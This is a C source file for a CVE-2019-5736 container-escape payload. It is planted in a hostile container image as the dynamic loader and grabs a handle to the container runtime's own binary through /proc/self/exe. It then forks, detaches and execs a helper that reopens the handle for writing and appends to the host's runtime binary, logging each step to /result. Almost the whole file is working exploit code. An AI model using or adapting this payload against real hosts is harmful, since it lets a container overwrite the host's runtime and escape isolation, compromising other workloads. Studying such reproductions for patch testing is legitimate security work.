/* CVE-2019-5736 payload, built -nostdlib -static: installed in a hostile
 * rootfs as the dynamic loader (/lib64/ld-linux-x86-64.so.2) and run by the
 * kernel whenever something in the container execs a dynamically linked
 * binary, in particular the runtime's own binary reached through
 * /proc/self/exe. It then plays the 2019 exploit: keep an O_PATH handle to
 * /proc/self/exe, let the runtime finish, reopen the handle for writing and
 * append to the file. Every step is logged to /result (append) in the
 * container; "exe=" names what /proc/self/exe was. The reopening is done
 * by `attack reopen` (attack.c), exec'd with the handle open. */
typedef unsigned long u64;
static long sc(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
#define SYS_write 1
#define SYS_close 3
#define SYS_nanosleep 35
#define SYS_fork 57
#define SYS_exit_group 231
#define SYS_openat 257
#define SYS_readlinkat 267
#define SYS_setsid 112
#define SYS_execve 59
#define SYS_getpid 39
#define AT_FDCWD -100
#define O_WRONLY 1
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000
#define ETXTBSY 26

static long slen(const char *s) { long n = 0; while (s[n]) n++; return n; }
static int logfd;
static void out(const char *s) { sc(SYS_write, logfd, (long)s, slen(s), 0); }
static void num(long v) {
    char b[24]; int i = 23; b[i] = 0;
    int neg = v < 0; if (neg) v = -v;
    do { b[--i] = '0' + v % 10; v /= 10; } while (v);
    if (neg) b[--i] = '-';
    out(b + i);
}

void __attribute__((noreturn)) start_c(void) {
    logfd = sc(SYS_openat, AT_FDCWD, (long)"/result", O_WRONLY | O_CREAT | O_APPEND, 0644);
    out("start\n");
    char t[512];
    long n = sc(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)t, sizeof t - 1);
    t[n < 0 ? 0 : n] = 0;
    out("exe="); out(t); out("\n");
    long h = sc(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
    if (h < 0) { out("no-handle errno="); num(-h); out("\ndone\n"); sc(SYS_exit_group, 0, 0, 0, 0); }
    char p[32] = "/proc/self/fd/";
    { char b[8]; int i = 7; b[i] = 0; long v = h; do { b[--i] = '0' + v % 10; v /= 10; } while (v);
      int k = 14; while (b[i]) p[k++] = b[i++]; p[k] = 0; }
    /* As an exec'd process, the runtime waits for us (and keeps its binary
     * busy): fork and let it go. As pid 1 nothing waits: carry on. */
    if (sc(SYS_getpid, 0, 0, 0, 0) != 1) {
        long pid = sc(SYS_fork, 0, 0, 0, 0);
        if (pid != 0) { out("forked\n"); sc(SYS_exit_group, 0, 0, 0, 0); }
    }
    /* Drop our own mapping of the binary (it keeps it busy) by exec'ing
     * the helper, which inherits the handle and does the rest. */
    sc(SYS_setsid, 0, 0, 0, 0);
    char fdn[8]; { int k = 0; for (int i = 14; p[i]; i++) fdn[k++] = p[i]; fdn[k] = 0; }
    char *av[] = { "attack", "reopen", fdn, "/result", 0 };
    char *ev[] = { 0 };
    long e = sc(SYS_execve, (long)"/bin/attack", (long)av, (long)ev, 0);
    out("exec-helper-failed errno="); num(-e); out("\ndone\n");
    sc(SYS_exit_group, 0, 0, 0, 0);
    __builtin_unreachable();
}

__asm__(".globl _start\n_start:\n and $-16, %rsp\n call start_c\n");
